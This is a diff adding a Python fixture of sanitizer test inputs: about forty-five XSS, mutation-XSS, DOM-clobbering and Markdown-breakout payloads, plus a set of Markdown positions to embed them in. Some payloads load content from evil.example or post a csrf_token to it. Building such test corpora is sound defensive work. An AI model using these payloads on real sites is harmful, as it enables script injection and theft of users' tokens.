@@ -1,0 +1,66 @@
+"""What strangers send to be executed: in Markdown, and in HTML from elsewhere."""
+
+SAMPLES = {
+    "script": "<script>window.ran=1</script>",
+    "handler": '<img src=x onerror="window.ran=1">',
+    "handler on words": '<p onclick="window.ran=1" onmouseover=window.ran=1>words</p>',
+    "javascript link": '<a href="javascript:window.ran=1">words</a>',
+    "javascript, tab inside": '<a href="java&#9;script:window.ran=1">words</a>',
+    "data link": '<a href="data:text/html,<script>window.ran=1</script>">words</a>',
+    "vbscript": '<a href="vbscript:x">words</a>',
+    "cite": '<q cite="javascript:window.ran=1">words</q>',
+    "style": '<p style="background:url(//evil.example/x)">words</p>',
+    "style sheet": "<style>*{display:none}</style>",
+    "import": "<style>@import '//evil.example/x';</style>",
+    "iframe": '<iframe src="//evil.example/"></iframe>',
+    "srcdoc": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+    "object": '<object data="//evil.example/x"></object><embed src="//evil.example/x">',
+    "svg": '<svg onload="window.ran=1"><script>window.ran=1</script></svg>',
+    "svg link": '<svg><a xlink:href="javascript:window.ran=1"><text y=9>x</text></a></svg>',
+    "svg animate": "<svg><animate onbegin=window.ran=1 attributeName=x></svg>",
+    "mathml": '<math href="javascript:window.ran=1"><mtext>x</mtext></math>',
+    "base": '<base href="//evil.example/">',
+    "meta": '<meta http-equiv=refresh content="0;url=//evil.example/">',
+    "link": "<link rel=stylesheet href=//evil.example/x>",
+    "form": "</form><form action=//evil.example/><input name=csrf_token value=x></form>",
+    "formaction": "<button formaction=javascript:window.ran=1>x</button>",
+    "clobbering": '<img name=body id=csrf_token><a id="main" name="cookie">words</a>',
+    "mutation noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
+    "mutation math": (
+        "<math><mtext><table><mglyph><style><!--</style>"
+        '<img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">'
+    ),
+    "mutation svg": '<svg></p><style><a title="</style><img src=1 onerror=window.ran=1>">',
+    "mutation form": (
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>"
+    ),
+    "mutation comment": "<!--><img src=x onerror=window.ran=1>-->",
+    "mutation bogus": "<![CDATA[><img src=x onerror=window.ran=1>]]>",
+    "mutation textarea": '<textarea><p title="</textarea><img src=x onerror=window.ran=1>">',
+    "mutation template": "<template><img src=x onerror=window.ran=1></template>",
+    "mutation xmp": '<xmp><p title="</xmp><img src=x onerror=window.ran=1>">',
+    "markdown link": "[words](javascript:window.ran=1)",
+    "markdown link, reference": "[words](java&#115;cript&colon;window.ran=1)",
+    "markdown link, breaks out": '[words](https://a.example/"onmouseover="window.ran=1)',
+    "markdown title, breaks out": "[words](https://a.example 'x\"onclick=\"window.ran=1')",
+    "markdown picture": "![words](https://evil.example/x.png)",
+    "markdown picture, ours": "![words](/logout)",
+    "markdown picture, breaks out": '![x"onerror="window.ran=1](photo:1 \'y"onload="ran=1\')',
+    "markdown autolink": "<javascript:window.ran=1>",
+    "markdown reference": "[words][x]\n\n[x]: javascript:window.ran=1",
+    "markdown code": '``` x"onclick="window.ran=1\n</code></pre><script>window.ran=1</script>\n```',
+    "markdown note": 'x[^a"onclick="ran]\n\n[^a"onclick="ran]: <script>window.ran=1</script>',
+    "markdown heading": '# x" onclick="window.ran=1 <script>window.ran=1</script>',
+}
+# Around each of them: every place in which a sample can stand.
+POSITIONS = {
+    "alone": "{}",
+    "heading": "# {}",
+    "list": "- {}",
+    "quote": "> {}",
+    "bold": "**{}**",
+    "table": "| a |\n|---|\n| {} |",
+    "link words": "[{}](https://example.org/)",
+    "picture words": "![{}](photo:1)",
+    "note": "x[^1]\n\n[^1]: {}",
+}
